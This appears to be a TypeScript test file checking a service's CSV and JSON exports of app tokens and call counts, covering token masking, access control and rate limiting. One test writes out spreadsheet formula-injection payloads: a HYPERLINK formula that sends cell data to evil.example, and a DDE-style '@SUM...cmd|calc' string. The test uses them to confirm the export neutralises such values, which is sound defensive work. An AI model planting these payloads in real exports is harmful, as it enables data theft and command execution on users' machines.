import { parse } from 'csv-parse/sync';
import { registerLegacyApp, type RegisteredApp } from '../../support/bridge/register-app.ts';
import { SettableClock } from '../../support/bridge/settable-clock.ts';
import { startSystem, type System } from '../../support/bridge/system.ts';
import { CookieWalker } from '../../support/callers/cookie-walker.ts';
import { countCallsSince } from '../../../src/store/usage/known-calls.ts';
import { MINUTE } from '../../../src/shared/lifetimes.ts';
import { browserOf, DANA, SAM, waitingToken } from '../support/people.ts';

/** The tokens and calls of an app as files. */

let system: System;
let owner: CookieWalker;
let sam: CookieWalker;
let app: RegisteredApp;
const clock = new SettableClock();

const EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Sam")';
const AT = '@SUM(1+1)*cmd|calc';

beforeAll(async () => {
  clock.run();
  system = await startSystem({ clock });
  await countCallsSince(system.bridge.context.store, 0);
  [owner, sam] = [await browserOf(system), await browserOf(system, SAM)];
});

afterAll(() => system.stop());

beforeEach(async () => {
  // Beyond the brake of the test before.
  clock.advance(2 * MINUTE);
  clock.run();
  app = await registerLegacyApp(system.bridge, 'https://files.example/cb', DANA.accountId);
});

const urlOf = (path: string) => `${system.bridgeUrl}/apps/${app.clientId}${path}`;
const take = async (browser: CookieWalker, path: string) => browser.get(urlOf(path));

async function named(name: string): Promise<void> {
  const { durable } = system.bridge.context.store;
  await durable.updateTable('accounts').set({ name }).where('account_id', '=', SAM.accountId).execute();
}

/** A call of a token, as an answer would have been counted. */
async function called(mappingId: string, calls: number, endpoint = '/1/user.json'): Promise<void> {
  const at = clock.now();
  const day = new Date(at).toISOString().slice(0, 10);
  const row = { mapping_id: mappingId, day, endpoint, carrier: 'query', user_agent: 'cron', outcome: 'ok' };
  await system.bridge.context.store.volatile
    .insertInto('usage')
    .values({ ...row, calls, last_at: at })
    .execute();
}

const recordsOf = ({ body }: { body: string }) =>
  parse(body, { columns: true }) as Array<Record<string, string>>;

test('the owner takes every token, and of each the last four characters alone', async () => {
  const mine = await waitingToken(system, {
    app,
    accountId: SAM.accountId,
    state: 'reauthorization_required',
  });
  await called(mine.id, 7);
  const file = await take(owner, '/tokens.csv');
  expect(file.status).toBe(200);
  expect(file.headers.get('cache-control')).toBe('private, no-store');
  expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  expect(file.headers.get('content-disposition')).toMatch(
    new RegExp(`^attachment; filename="tokens-${app.clientId}-\\d{4}-\\d\\d-\\d\\d\\.csv"$`),
  );
  const records = recordsOf(file);
  expect(records).toHaveLength(2);
  expect(records.find(({ last_four: last }) => last === mine.token.slice(-4))).toMatchObject({
    state: 'stopped',
    source: 'imported',
    calls_in_30_days: '7',
    calls_may_be_missing: 'no',
  });
  const json = JSON.parse((await take(owner, '/tokens.json')).body) as { rows: object[]; of: string };
  expect([json.of, json.rows.length]).toEqual(['app', 2]);
  for (const { body } of [file, await take(owner, '/tokens.json')]) {
    expect(body).not.toContain(mine.token.slice(2));
    expect(body).not.toContain(`1/${mine.token.slice(2, 6)}`);
    expect(body).not.toContain(SAM.accountId);
    expect(body).not.toContain(SAM.login);
  }
});

test('the calls are told by day, and a file of other days than there are is refused', async () => {
  const { id } = await waitingToken(system, { app, accountId: SAM.accountId });
  await called(id, 5);
  await called(id, 2, '/1/profiles.json');
  const records = recordsOf(await take(owner, '/calls.csv?days=7'));
  expect(records.map(({ endpoint, token_sent_in: place, calls }) => [endpoint, place, calls])).toEqual(
    expect.arrayContaining([
      ['/1/user.json', 'the address', '5'],
      ['/1/profiles.json', 'the address', '2'],
    ]),
  );
  expect((await take(owner, '/calls.csv?days=8')).status).toBe(400);
  const json = JSON.parse((await take(owner, '/calls.json')).body) as { days: number; rows: unknown[] };
  expect([json.days, json.rows.length]).toEqual([30, 2]);
});

test('a name that is a formula is a text for every spreadsheet', async () => {
  await waitingToken(system, { app, accountId: SAM.accountId });
  for (const name of [EVIL, AT, '+1', '-1+1']) {
    await named(name);
    const holders = recordsOf(await take(owner, '/tokens.csv')).map(({ holder }) => holder ?? '');
    expect(holders.filter((holder) => /^[=+\-@]/.test(holder))).toEqual([]);
    const shown = name.includes('@') ? 'an account without a name' : `'${name}`;
    expect(holders).toContain(shown);
  }
  await named('Sam');
});

test('a holder gets the own tokens and calls alone, and nobody else gets any', async () => {
  const own = await waitingToken(system, { app, accountId: SAM.accountId });
  const other = await waitingToken(system, { app, accountId: DANA.accountId });
  await called(own.id, 3);
  await called(other.id, 4444);
  const tokens = recordsOf(await take(sam, '/tokens.csv'));
  expect(tokens.map(({ last_four: last, holder }) => [last, holder])).toEqual([[own.token.slice(-4), 'you']]);
  expect(recordsOf(await take(sam, '/calls.csv')).map(({ calls }) => calls)).toEqual(['3']);
  const nobody = new CookieWalker();
  for (const path of ['/tokens.csv', '/tokens.json', '/calls.csv', '/calls.json']) {
    expect((await take(nobody, path)).location).toMatch(/^\/sign-in\?return_to=/);
    const program = await fetch(urlOf(path), { headers: { accept: '*/*' }, redirect: 'manual' });
    expect([path, program.status]).toEqual([path, 401]);
  }
  const elsewhere = await sam.get(`${system.bridgeUrl}/apps/${'0'.repeat(24)}/tokens.csv`);
  expect(elsewhere.status).toBe(404);
});

test('more files than a person reads are refused for a while', async () => {
  const taken: number[] = [];
  while (taken.length < 11) taken.push((await take(owner, '/tokens.json')).status);
  expect(taken).toEqual([...Array.from({ length: 10 }, () => 200), 429]);
  expect((await take(sam, '/tokens.json')).status).toBe(200);
});
